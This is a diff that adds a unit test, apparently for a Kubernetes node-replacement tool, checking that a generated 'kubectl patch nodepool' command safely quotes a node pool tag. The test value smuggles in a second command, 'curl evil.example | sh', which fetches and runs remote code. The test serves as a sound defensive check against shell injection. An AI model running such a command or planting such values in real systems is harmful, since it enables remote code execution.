@@ -192,6 +192,14 @@ it('the commands that replace nodes that are due name each group', () => {
   });
 });
 
+it('a command that replaces nodes holds no other, whatever the tags of a node say that its pool is', () => {
+  const [pool] = ['karpenter:x; curl evil.example | sh'];
+  const decision = decideAuthority(found(first, successor), trusting([node(ADDED - 1, pool)]), FIRST);
+  expect(Object.values(decision?.details?.replace ?? {})).toEqual([
+    expect.stringMatching(/^kubectl patch nodepool 'x; curl evil\.example \| sh' --type merge /),
+  ]);
+});
+
 it('a record names the largest groups, and no more than a hundred commands', () => {
   const nodes = Array.from({ length: 300 }, (_, index) => node(ADDED - 1, `g${index}`));
   const decision = decideAuthority(found(first, successor), trusting([...nodes, node(ADDED - 1, 'g7')]), FIRST);
